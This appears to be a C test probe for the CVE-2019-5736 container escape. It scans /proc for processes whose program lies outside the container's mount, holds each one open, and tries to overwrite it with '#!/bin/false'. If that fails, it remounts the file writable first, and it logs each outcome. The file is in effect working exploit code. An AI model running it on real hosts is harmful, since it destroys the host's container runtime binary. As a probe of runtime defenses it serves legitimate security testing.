/*
 * overwrite REPORT: what a container does with the program of a process that enters it
 * (CVE-2019-5736). Looks for processes whose program is not of its root, holds that open, waits for
 * the end of the process, and then writes to the program, as it is and after trying to make its
 * mount writable. REPORT gets a line for each: "seen", and "written" or what the kernel said. Ends
 * when its standard input does.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static __u64 own_mount;

static __u64 mount_of(int fd, const char *path)
{
	struct statx st;

	return statx(fd, path, AT_EMPTY_PATH, STATX_MNT_ID, &st) < 0 ? own_mount : st.stx_mnt_id;
}

static int foreign_program(const char *pid)
{
	char path[280];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && mount_of(fd, "") == own_mount) {
		close(fd);
		return -1;
	}
	return fd;
}

/* EBUSY to a writer as long as somebody executes it. */
static int write_to(const char *path)
{
	for (int tries = 0; tries < 2000; tries++) {
		int fd = open(path, O_WRONLY | O_CLOEXEC);

		if (fd >= 0) {
			ssize_t n = write(fd, "#!/bin/false\n", 13);

			close(fd);
			return n == 13 ? 0 : -EIO;
		}
		if (errno != ETXTBSY)
			return -errno;
		usleep(1000);
	}
	return -ETXTBSY;
}

static void attack(FILE *report, int fd)
{
	struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
	char path[64];
	int r;

	fprintf(report, "seen\n");
	fflush(report);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	r = write_to(path);
	if (r < 0) {
		fprintf(report, "write: %s\n", strerror(-r));
		(void)mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
		(void)mount_setattr(fd, "", AT_EMPTY_PATH, &writable, sizeof(writable));
		r = write_to(path);
	}
	if (r == 0)
		fprintf(report, "written\n");
	fflush(report);
}

int main(int argc, char **argv)
{
	struct pollfd in = {.fd = STDIN_FILENO, .events = POLLIN};
	FILE *report = argc == 2 ? fopen(argv[1], "a") : NULL;

	if (!report)
		return 2;
	own_mount = mount_of(AT_FDCWD, "/");
	while (poll(&in, 1, 0) == 0) {
		DIR *proc = opendir("/proc");
		struct dirent *d;

		while (proc && (d = readdir(proc))) {
			int fd = isdigit((unsigned char)*d->d_name) ? foreign_program(d->d_name)
								    : -1;

			if (fd >= 0) {
				attack(report, fd);
				close(fd);
			}
		}
		if (proc)
			closedir(proc);
	}
	return 0;
}
